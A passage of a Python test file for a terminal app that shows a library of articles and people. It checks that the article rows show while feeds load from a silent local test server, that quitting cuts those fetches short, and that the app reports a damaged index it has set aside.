    monkeypatch.setattr(fetch, "TIMEOUT", 120.0)    # the server would hold every fetch a while
    monkeypatch.setattr(fetch, "DEADLINE", 600.0)
    monkeypatch.setenv("PERSONAE_DATA_DIR", str(tmp_path / "data"))
    arts = [tmp_path / f"a{i}.txt" for i in range(n)]
    for i, p in enumerate(arts):
        p.write_text(f"Articolo {i}\n\n" + GOOD, encoding="utf-8")
    return arts


async def test_library_rows_show_while_feeds_load(tmp_path, own_config, monkeypatch):
    from tui.app.main import PersonaeApp, open_paths

    arts = _library(tmp_path, monkeypatch, 30)
    server, _gone = _silent_server()
    with server as base:
        app = PersonaeApp(open_paths(arts, [f"{base}/feed{i}.xml" for i in range(5)]))
        async with app.run_test(size=(100, 24)) as pilot:
            await pilot.pause(0.5)
            table = app.screen.query_one("#library")
            assert table.row_count == 30
            # the articles' rows are shown while five feeds load, not the header alone
            assert table.size.height >= 5, table.size
            await pilot.press("q")


async def test_quit_cuts_short_the_feeds_still_loading(tmp_path, own_config, monkeypatch):
    from tui.app.main import PersonaeApp, open_paths

    arts = _library(tmp_path, monkeypatch, 2)
    server, gone = _silent_server()
    with server as base:
        app = PersonaeApp(open_paths(arts, [f"{base}/feed.xml"]))
        async with app.run_test(size=(100, 40)) as pilot:
            await pilot.pause(0.5)
            assert not gone.is_set()  # the feed is loading
            await pilot.press("q")
        assert gone.wait(30), "the feed's fetch still held its connection after quitting"


async def test_library_says_a_damaged_index_was_set_aside(tmp_path, tiny_nlp_path, cache_dir,
                                                          own_config):
    from tui.app.main import PersonaeApp, open_paths

    arts = [tmp_path / "good.txt", tmp_path / "other.txt"]
    arts[0].write_text(GOOD, encoding="utf-8")
    arts[1].write_text(OTHER, encoding="utf-8")
    assert main(["people", *map(str, arts), "--format", "json", "-o", str(tmp_path / "p.json"),
                 "--model", str(tiny_nlp_path)]) == 0
    _sql(_index_file(), "DROP TABLE person")
    app = PersonaeApp(open_paths(arts), model=str(tiny_nlp_path))
    async with app.run_test(size=(100, 30)) as pilot:
        for _ in range(400):
            said = [n.message for n in app.said]
            if any("set aside" in m for m in said) or app.screen.index_ready:
                break
            await pilot.pause(0.05)
        await pilot.pause()
        said = [n.message for n in app.said]
        assert any("set aside" in m for m in said), said
        assert sorted(app.screen.people) == [0, 1] and min(app.screen.people.values()) > 0
